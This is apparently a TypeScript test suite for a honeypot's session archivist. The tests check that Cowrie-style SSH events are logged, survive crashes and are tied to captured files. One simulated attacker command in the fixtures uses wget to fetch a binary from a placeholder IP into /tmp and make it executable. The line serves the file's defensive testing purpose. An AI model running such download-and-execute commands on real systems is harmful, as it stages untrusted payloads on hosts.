import assert from "node:assert/strict";
import { readFileSync, readdirSync, statSync, writeFileSync } from "node:fs";
import { createHash } from "node:crypto";
import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";
import { test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import type { CowrieEvent } from "../../gateway/events/cowrie-event.ts";
import { IndexReader } from "../../gateway/index/query.ts";
import type { Capture } from "../../gateway/model/capture.ts";
import type { SessionId } from "../../gateway/model/ids.ts";
import { Conversation, SANDBOX } from "../evidence/conversation.ts";
import { ArchivistChild } from "./child.ts";
import { dataFolder, Live, putCapture } from "./folder.ts";

const SHA = "c0".repeat(32);

test("events appear while a session lives, and all of them once it ended", async (t) => {
  const data = dataFolder(t);
  const archivist = await ArchivistChild.start(t, data);
  const talk = new Conversation().login();
  const live = new Live(data, talk.session);
  live.write(talk.entries);
  archivist.tell({ kind: "session-opened", session: talk.session, path: live.path });
  await until(() => events(data).some(({ eventid }) => eventid === "cowrie.login.success"));

  const before = talk.entries.length;
  const channel = talk.after(500).open();
  talk.exec(channel, "uname -a").gets(channel, "Linux\n").exits(channel, 0);
  live.write(talk.entries.slice(before));
  await until(() => events(data).some(({ eventid }) => eventid === "cowrie.command.input"));
  assert.equal(row(data, talk.session)?.["state"], "live");
  assert.equal(row(data, talk.session)?.["commands"], 1);

  const path = await live.finish(talk.end());
  archivist.tell({ kind: "session-finished", session: talk.session, path });
  await archivist.archived(talk.session);
  assert.deepEqual(ids(data), [
    "cowrie.session.connect",
    "cowrie.client.version",
    "cowrie.client.kex",
    "cowrie.login.success",
    "cowrie.session.params",
    "cowrie.command.input",
    "cowrie.log.closed",
    "cowrie.session.closed",
  ]);
  assert.equal(row(data, talk.session)?.["state"], "ended");
  assert.equal(statSync(join(data, "events/mitsubako.json")).mode & 0o777, 0o640);
  await archivist.drain();
  assert.deepEqual(archivist.problems, []);
});

test("events are printed to standard output when the policy says so, and no more when it does not", async (t) => {
  const data = dataFolder(t);
  const archivist = await ArchivistChild.start(t, data, { stdout: true });
  const [first, second] = [new Conversation("aaaaaaaaaaaa"), new Conversation("bbbbbbbbbbbb")];
  for (const talk of [first, second]) {
    const live = new Live(data, talk.session);
    live.write(talk.entries);
    archivist.tell({ kind: "session-finished", session: talk.session, path: await live.finish(talk.end()) });
    await archivist.archived(talk.session);
    archivist.tell({ kind: "policy", events: { rotate: "size", rotateAt: 1e8, keep: 5, stdout: false } });
  }
  await archivist.drain();
  const printed = archivist.printed.split("\n").filter((line) => line !== "");
  assert.deepEqual(
    printed.map((line) => (JSON.parse(line) as CowrieEvent).session),
    Array(3).fill("aaaaaaaaaaaa"),
  );
  assert.equal(events(data).length, 6);
});

test("killed in mid-stream, again and again: no event is lost and none comes twice", async (t) => {
  const data = dataFolder(t);
  const talk = new Conversation().login();
  const live = new Live(data, talk.session);
  live.write(talk.entries);
  let written = talk.entries.length;
  for (let round = 0; round < 6; round++) {
    const archivist = await ArchivistChild.start(t, data);
    archivist.tell({ kind: "session-opened", session: talk.session, path: live.path });
    const killed = sleep(150 + round * 90).then(() => archivist.kill());
    for (let step = 0; step < 20; step++) {
      const channel = talk.after(10).open();
      talk.exec(channel, `echo ${round}.${step}`).exits(channel, 0);
      live.write(talk.entries.slice(written));
      written = talk.entries.length;
      await sleep(20);
    }
    await killed;
  }
  const path = await live.finish(talk.end());
  const last = await ArchivistChild.start(t, data);
  last.tell({ kind: "session-finished", session: talk.session, path });
  await last.archived(talk.session);
  await last.drain();
  const all = events(data);
  assert.deepEqual(
    all.map((event) => event.mitsubako_sequence),
    Array.from(all, (_, index) => index),
  );
  assert.equal(all.filter(({ eventid }) => eventid === "cowrie.command.input").length, 120);
});

test("a torn last line is cut and its event written again", async (t) => {
  const data = dataFolder(t);
  const talk = new Conversation().login();
  const live = new Live(data, talk.session);
  live.write(talk.entries);
  const first = await ArchivistChild.start(t, data);
  first.tell({ kind: "session-opened", session: talk.session, path: live.path });
  await until(() => events(data).length === 5);
  await first.kill();
  const file = join(data, "events/mitsubako.json");
  const text = readFileSync(file, "utf8");
  writeFileSync(file, text.slice(0, -40));
  await live.finish(talk.end());
  const second = await ArchivistChild.start(t, data);
  await second.archived(talk.session);
  assert.ok(readFileSync(file, "utf8").startsWith(text));
  assert.equal(events(data).length, 7);
  await second.drain();
});

test("a session that ended while nobody listened is caught up with, cut ones too", async (t) => {
  const data = dataFolder(t);
  for (const [session, end] of [
    ["aaaaaaaaaaaa", "client-closed"],
    ["bbbbbbbbbbbb", "cut"],
  ] as const) {
    const talk = new Conversation(session).login();
    const live = new Live(data, talk.session);
    live.write(talk.entries);
    await live.finish(end === "cut" ? "cut" : talk.end(end));
  }
  const archivist = await ArchivistChild.start(t, data);
  await archivist.archived("aaaaaaaaaaaa");
  await archivist.archived("bbbbbbbbbbbb");
  assert.equal(row(data, "aaaaaaaaaaaa")?.["state"], "ended");
  assert.equal(row(data, "bbbbbbbbbbbb")?.["state"], "cut");
  const closed = events(data).filter(({ eventid }) => eventid === "cowrie.session.closed");
  assert.deepEqual(
    closed.map((event) => event["mitsubako_end_reason"]),
    ["client-closed", "cut-off"],
  );
  await archivist.drain();
  const again = await ArchivistChild.start(t, data);
  await again.drain();
  assert.equal(events(data).length, 14);
});

test("a capture adds its files once, beside the recording or long after it", async (t) => {
  const data = dataFolder(t);
  const archivist = await ArchivistChild.start(t, data);
  const talk = new Conversation().login();
  const channel = talk.open();
  talk.exec(channel, "wget -q http://203.0.113.9/bins/x86 -O /tmp/.a; chmod +x /tmp/.a").exits(channel, 0);
  const live = new Live(data, talk.session);
  live.write(talk.entries);
  const path = await live.finish(talk.end());
  archivist.tell({ kind: "session-finished", session: talk.session, path });
  await archivist.archived(talk.session);
  const own = events(data).length;
  putCapture(data, path, CAPTURE);
  archivist.tell({ kind: "capture", session: talk.session, path });
  archivist.tell({ kind: "capture", session: talk.session, path });
  await archivist.drain();
  const late = events(data).slice(own);
  assert.deepEqual(
    late.map(({ eventid }) => eventid),
    ["cowrie.session.file_download"],
  );
  const [event] = late;
  assert.equal(event?.["late"], true);
  assert.equal(event["shasum"], SHA);
  assert.equal(event["outfile"], `data/artifacts/${SHA}`);
  assert.equal(event["url"], "http://203.0.113.9/bins/x86");
  assert.equal(event["destfile"], "/tmp/.a");
  assert.equal(event["duplicate"], false);
  assert.equal(event["timestamp"], "2026-11-23T08:15:37.500000Z");
  assert.equal(event.mitsubako_sequence, own);
  const again = await ArchivistChild.start(t, data);
  again.tell({ kind: "capture", session: talk.session, path });
  await again.drain();
  assert.equal(events(data).length, own + 1);
});

test("a sandbox captured after each of its sessions tells each file once, to whom it belongs", async (t) => {
  const data = dataFolder(t);
  const archivist = await ArchivistChild.start(t, data);
  const sessions = ["aaaaaaaaaaaa", "bbbbbbbbbbbb", "cccccccccccc"];
  const file = (name: string) => ({
    kind: "A" as const,
    path: `/root/${name}`,
    type: "file" as const,
    size: 3,
    sha256: createHash("sha256").update(name).digest("hex"),
  });
  const files = [file("first"), file("second"), file("third")];
  for (const [index, id] of sessions.entries()) {
    const talk = new Conversation(id, `2026-11-23T02:1${index}:00.000000Z`).login();
    const channel = talk.open();
    // The second one comes by SCP, which the upload's own event tells.
    talk.exec(channel, "scp -t /root/second");
    if (index === 1) talk.sends(channel, "C0644 6 second\nsecond\0");
    const live = new Live(data, talk.session);
    live.write(talk.entries);
    const path = await live.finish(talk.end());
    archivist.tell({ kind: "session-finished", session: talk.session, path });
    putCapture(data, path, {
      ...CAPTURE,
      sessions: sessions.slice(0, index + 1) as SessionId[],
      takenAt: `2026-11-23T02:1${index}:30.000Z`,
      changes: files.slice(0, index + 1),
    });
    archivist.tell({ kind: "capture", session: talk.session, path });
  }
  await archivist.drain();
  const told = events(data).filter(({ eventid }) => eventid.startsWith("cowrie.session.file_"));
  assert.deepEqual(
    told.map((event) => [event.session[0], event["filename"] ?? event["destfile"]]),
    [
      ["a", "/root/first"],
      ["b", "/root/second"],
      ["c", "/root/third"],
    ],
  );
  using index = IndexReader.open(data);
  assert.deepEqual(
    index?.files().map(({ id, path }) => [id, path]),
    [
      ["aaaaaaaaaaaa.0", "/root/first"],
      ["bbbbbbbbbbbb.1", "/root/second"],
      ["cccccccccccc.2", "/root/third"],
    ],
  );
  assert.deepEqual(
    index.sessions().map(({ id, files }) => [id[0], files]),
    [
      ["c", 1],
      ["b", 1],
      ["a", 1],
    ],
  );
  assert.deepEqual(
    index.files({ session: "bbbbbbbbbbbb" }).map(({ path }) => path),
    ["/root/second"],
  );
});

test("a session that caused two captures has the files of both, each once", async (t) => {
  const data = dataFolder(t);
  const archivist = await ArchivistChild.start(t, data);
  const talk = new Conversation().login();
  const live = new Live(data, talk.session);
  live.write(talk.entries);
  const path = await live.finish(talk.end());
  archivist.tell({ kind: "session-finished", session: talk.session, path });
  putCapture(data, path, CAPTURE);
  archivist.tell({ kind: "capture", session: talk.session, path });
  await archivist.archived(talk.session);
  const second = { kind: "A" as const, path: "/tmp/.b", type: "file" as const, sha256: "b0".repeat(32) };
  const changes = [...CAPTURE.changes, second];
  putCapture(data, path, { ...CAPTURE, takenAt: "2026-11-23T09:00:00.000Z", changes }, 2);
  archivist.tell({ kind: "capture", session: talk.session, path });
  await archivist.drain();
  assert.deepEqual(archivist.problems, []);
  const downloads = events(data).filter(({ eventid }) => eventid === "cowrie.session.file_download");
  assert.deepEqual(
    downloads.map((event) => [event["destfile"], event["timestamp"]]),
    [
      ["/tmp/.a", "2026-11-23T08:15:37.500000Z"],
      ["/tmp/.b", "2026-11-23T09:00:00.000000Z"],
    ],
  );
  using index = IndexReader.open(data);
  assert.deepEqual(
    index?.files({ session: talk.session }).flatMap(({ id, sha256 }) => (sha256 === undefined ? [] : [id])),
    ["0a1b2c3d4e5f-2.0", "0a1b2c3d4e5f-2.2", "0a1b2c3d4e5f-2.5"],
  );
});

test("a poisonous recording is set aside with a word; the others go on", async (t) => {
  const data = dataFolder(t);
  const archivist = await ArchivistChild.start(t, data);
  const bad = new Conversation("666666666666").login();
  // A front that was taken over can write anything: here a fact without what its kind promises.
  bad.fact({ kind: "key-exchange" } as never);
  const poison = new Live(data, bad.session);
  poison.write(bad.entries);
  archivist.tell({ kind: "session-opened", session: bad.session, path: poison.path });
  await archivist.hears(({ kind }) => kind === "problem");
  archivist.tell({ kind: "session-finished", session: bad.session, path: await poison.finish(bad.end()) });
  const good = new Conversation("777777777777").login();
  const live = new Live(data, good.session);
  live.write(good.entries);
  archivist.tell({ kind: "session-finished", session: good.session, path: await live.finish(good.end()) });
  await archivist.archived(good.session);
  await archivist.drain();
  assert.ok(archivist.problems.some((problem) => problem.includes("666666666666 is set aside")));
});

test("a damaged recording tells what stands before the damage", async (t) => {
  const data = dataFolder(t);
  const talk = new Conversation().login();
  const channel = talk.open();
  talk.exec(channel, "echo whole");
  const live = new Live(data, talk.session);
  live.write(talk.entries);
  const path = await live.finish(talk.end());
  const file = join(data, path, "session.mbr");
  const bytes = readFileSync(file);
  const at = bytes.indexOf("echo whole");
  bytes[at] = 0x45;
  writeFileSync(file, bytes);
  const archivist = await ArchivistChild.start(t, data);
  await archivist.archived(talk.session);
  assert.equal(row(data, talk.session)?.["state"], "damaged");
  assert.ok(!ids(data).includes("cowrie.command.input"));
  assert.ok(ids(data).includes("cowrie.login.success"));
  assert.equal(archivist.problems.length, 1);
  await archivist.drain();
});

const CAPTURE: Capture = {
  sandbox: SANDBOX,
  sessions: ["0a1b2c3d4e5f" as SessionId],
  source: "192.0.2.7",
  takenAt: "2026-11-23T08:15:37.500Z",
  cut: false,
  changes: [
    { kind: "A", path: "/tmp/.a", type: "file", size: 3, mode: 0o755, sha256: SHA },
    { kind: "C", path: "/root", type: "directory" },
    { kind: "A", path: "/root/.bash_history", type: "file", size: 9, sha256: "d1".repeat(32) },
    { kind: "D", path: "/etc/motd", type: "gone" },
    { kind: "A", path: "/tmp/huge", type: "file", size: 9e9, leftOut: "too-large" },
  ],
};

function events(data: string): CowrieEvent[] {
  const folder = join(data, "events");
  return readdirSync(folder)
    .sort()
    .reverse()
    .flatMap((name) => readFileSync(join(folder, name), "utf8").split("\n"))
    .filter((line) => line.endsWith("}"))
    .map((line) => JSON.parse(line) as CowrieEvent);
}

function ids(data: string): string[] {
  return events(data).map(({ eventid }) => eventid);
}

function row(data: string, session: string): Record<string, unknown> | undefined {
  using database = new DatabaseSync(join(data, "index.sqlite"), { readOnly: true });
  return database.prepare("SELECT * FROM sessions WHERE id = ?").get(session);
}

async function until(holds: () => boolean, within = 60_000): Promise<void> {
  const deadline = Date.now() + within;
  while (!holds()) {
    assert.ok(Date.now() < deadline, "it did not come about in time");
    await sleep(50);
  }
}
